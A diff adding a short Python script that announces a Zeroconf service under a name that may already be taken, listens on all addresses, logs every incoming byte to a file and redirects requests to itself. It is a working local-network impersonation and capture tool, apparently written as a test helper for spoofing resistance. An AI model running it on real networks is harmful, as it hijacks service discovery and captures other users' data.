@@ -1,0 +1,51 @@
+# SPDX-License-Identifier: Apache-2.0
+"""rogue_server.py PORT FILE NAME ADDRESS: takes the name of a server on the link, and keeps what comes to it.
+
+Announces the service NAME at PORT of ADDRESS whoever else has that name, takes connections at PORT of every address, and
+appends to FILE every byte that comes. Answers what looks like a request with a redirect to itself. Prints `ready`; ends
+at the end of its input.
+"""
+
+import asyncio
+import os
+import socket
+import sys
+
+from zeroconf import ServiceInfo, Zeroconf
+
+TYPE = "_Relativity_DataService_rosdk._tcp.local."
+ANSWER = b"HTTP/1.1 307 Temporary Redirect\r\nLocation: http://%s:%d/bin\r\nContent-Length: 0\r\n\r\n"
+
+
+def announce(port, name, address):
+    service = ServiceInfo(
+        TYPE, f"{name}.{TYPE}", port=port, server="rogue.local.", addresses=[socket.inet_aton(address)]
+    )
+    # A cooperating responder does not ask whether the name is taken.
+    Zeroconf(interfaces=[address]).register_service(service, strict=False, cooperating_responders=True)
+
+
+async def main(port, path):
+    with open(path, "ab", buffering=0) as record:
+
+        async def serve(reader, writer):
+            host, own = writer.get_extra_info("sockname")[:2]
+            record.write(b"connection\n")
+            try:
+                while data := await reader.read(65536):
+                    record.write(data)
+                    writer.write(ANSWER % (host.encode(), own))
+                    await writer.drain()
+            except ConnectionError:
+                pass
+            writer.close()
+
+        await asyncio.start_server(serve, "0.0.0.0", port)
+        print("ready", flush=True)
+        await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
+        os._exit(0)
+
+
+if __name__ == "__main__":
+    announce(int(sys.argv[1]), sys.argv[3], sys.argv[4])
+    asyncio.run(main(int(sys.argv[1]), sys.argv[2]))
